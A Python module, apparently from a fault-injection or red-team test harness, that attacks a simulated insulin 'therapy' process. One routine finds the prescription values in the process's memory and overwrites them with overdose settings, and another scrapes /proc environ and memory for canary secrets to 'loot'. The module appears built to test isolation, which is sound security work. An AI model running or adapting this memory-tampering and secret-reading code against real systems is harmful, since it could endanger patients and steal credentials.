"""Attacks on therapy's memory: rewrite the prescription, read the secrets."""

from __future__ import annotations

import struct

from faults.implant import victim
from faults.implant.foothold import Foothold, Parameters, Report

#: What the attacker makes of the settings in force: every one of them lets therapy give more insulin. In
#: order of importance: where two settings have the same value, the first one's new value is written.
OVERDOSE = {
    "insulin_on_board_max_u": 50.0,
    "basal_max_u_per_h": 35.0,
    "basal_profile_u_per_h": 12.0,
    "correction_mg_dl_per_u": 2.0,
    "carb_ratio_g_per_u": 2.0,
    "target_mg_dl": 80.0,
}
#: Values that stand everywhere in a Python process and would give a setting away only by chance.
_TOO_COMMON = frozenset((0.0, 1.0, -1.0))
CANARY_PREFIX = b"CANARY" + b"-"
CANARY_BYTES = 32
CANARIES_MAX = 4
SCANNED_BYTES_MAX = 512 << 20


def _substitutions(foothold: Foothold, parameters: Parameters) -> dict[float, float]:
    """Old value to new value, from the settings that therapy itself published."""
    known = parameters.get("known") or {}
    wanted = dict(OVERDOSE) | dict(parameters.get("overwrite") or {})
    pairs: dict[float, float] = {}
    for name, new in wanted.items():
        old = known.get(name, getattr(foothold.settings, name, None))
        if old is not None and old not in _TOO_COMMON and old != new:
            pairs.setdefault(float(old), float(new))
    return pairs


def overwrite_settings(foothold: Foothold, parameters: Parameters) -> Report:
    """K01: find therapy's process, find the prescription's numbers in its memory, write deadlier ones.

    ``run_pid`` (required), ``victim`` ("therapy"), ``overwrite`` (new values by field of TherapySettings).
    """
    try:
        from faults.implant import remote
    except (ImportError, OSError) as error:
        return {"note": f"no raw system calls: {error}"}
    search = victim.find(str(parameters.get("victim", "therapy")), int(parameters.get("run_pid", 0)))
    if not search.pids:
        remote.knock()
        return victim.not_found(search)
    pairs = _substitutions(foothold, parameters)
    report: Report = {"victims": len(search.pids), "known_values": len(pairs), "written": 0, "errors": []}
    for pid in search.pids:
        try:
            for old, addresses in remote.find_float_objects(pid, list(pairs)).items():
                for address in addresses:
                    remote.write(pid, address, struct.pack("<d", pairs[old]))
                    report["written"] += 1
        except OSError as error:
            report["errors"].append(str(error))
    return report


def read_secrets(foothold: Foothold, parameters: Parameters) -> Report:
    """K02: open therapy's memory and environment as files, look for its secrets, send them out.

    ``run_pid`` (required), ``victim`` ("therapy").
    """
    search = victim.find(str(parameters.get("victim", "therapy")), int(parameters.get("run_pid", 0)))
    if not search.pids:
        return victim.not_found(search)
    report: Report = {"victims": len(search.pids), "canaries": 0, "environment_bytes": 0, "errors": []}
    for pid in search.pids:
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                report["environment_bytes"] += len(file.read(65_536))
            loot = _canaries(pid)
        except OSError as error:
            report["errors"].append(str(error))
            continue
        report["canaries"] += len(loot)
        for canary in loot:
            foothold.loot("K02", canary)
    return report


def _canaries(pid: int) -> list[bytes]:
    """The distinct canaries in a process's memory, read through ``/proc/PID/mem``. Raises ``OSError``."""
    found: list[bytes] = []
    total = 0
    with (
        open(f"/proc/{pid}/maps", encoding="utf-8", errors="replace") as maps,
        open(f"/proc/{pid}/mem", "rb") as mem,
    ):
        for line in maps:
            span, rights = line.split()[:2]
            low, _, high = span.partition("-")
            start, end = int(low, 16), int(high, 16)
            total += end - start
            if not rights.startswith("rw") or total > SCANNED_BYTES_MAX:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue  # a hole such as [vvar]
            at = data.find(CANARY_PREFIX)
            while at >= 0 and len(found) < CANARIES_MAX:
                canary = data[at : at + CANARY_BYTES]
                if len(canary) == CANARY_BYTES and canary not in found:
                    found.append(canary)
                at = data.find(CANARY_PREFIX, at + 1)
    return found
